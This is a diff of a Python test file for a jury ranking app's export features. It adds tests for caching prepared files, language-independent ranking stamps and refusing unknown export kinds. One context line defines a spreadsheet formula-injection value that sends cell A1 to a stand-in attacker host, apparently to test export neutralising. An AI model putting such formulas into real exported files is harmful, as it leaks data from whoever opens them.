@@ -14,6 +14,7 @@ from app.judging.models import CriterionScore, ScoreSheet
 from app.prepared.models import PreparedFile
 from app.ranking import deliberation
 from app.ranking.exports import FONTS_DIR, ReportFetcher, ReportFileRefused, neutralise
+from app.ranking.prepared import ranking_stamp
 from app.ranking.scores import load_scores
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -373,3 +374,44 @@ def test_jury_report_in_french_gives_the_texts_in_french_and_marks_the_others(cl
     assert "Heraklion fights illiteracy. (en anglais uniquement)" in text
     assert "Strasbourg, 25th session (en anglais uniquement)" in text
     assert PdfReader(io.BytesIO(response.data)).trailer["/Root"].get("/Lang") == "fr"
+
+
+def test_export_asked_twice_is_made_once_until_a_sheet_changes(client, auth, small, db):
+    auth.login(small.organiser.email)
+    prepare(auth, small, "sheets.xlsx")
+    prepare(auth, small, "sheets.xlsx")
+    assert db.session.scalar(select(func.count(PreparedFile.id))) == 1
+
+    sheet = db.session.scalars(select(ScoreSheet)).first()
+    sheet.overall_comment = "Revised after the hearing."
+    db.session.commit()
+    page = client.get(f"/manage/editions/{small.edition.id}/ranking").get_data(as_text=True)
+    prepare(auth, small, "sheets.xlsx")
+
+    assert "Score sheets (XLSX): the data has changed since it was prepared" in page
+    assert db.session.scalar(select(func.count(PreparedFile.id))) == 2
+
+
+def test_ranking_stamp_does_not_depend_on_the_page_language(app, small):
+    stamps = []
+    for language in ("en", "fr"):
+        with app.test_request_context(), force_locale(language):
+            stamps.append(ranking_stamp(small.edition.id, {}))
+
+    assert stamps[0] == stamps[1]
+
+
+def test_prepare_an_unknown_kind_or_method_changes_nothing(client, auth, small, db):
+    auth.login(small.organiser.email)
+
+    unknown_kind = auth.post(
+        f"/manage/editions/{small.edition.id}/files",
+        {"kind": "everything"},
+        form_url=f"/manage/editions/{small.edition.id}/ranking",
+        follow_redirects=True,
+    )
+    unknown_method = prepare(auth, small, "ranking.csv", method="coin-toss")
+
+    assert "This file cannot be prepared" in unknown_kind.get_data(as_text=True)
+    assert unknown_method.status_code == 302
+    assert db.session.scalar(select(func.count(PreparedFile.id))) == 0
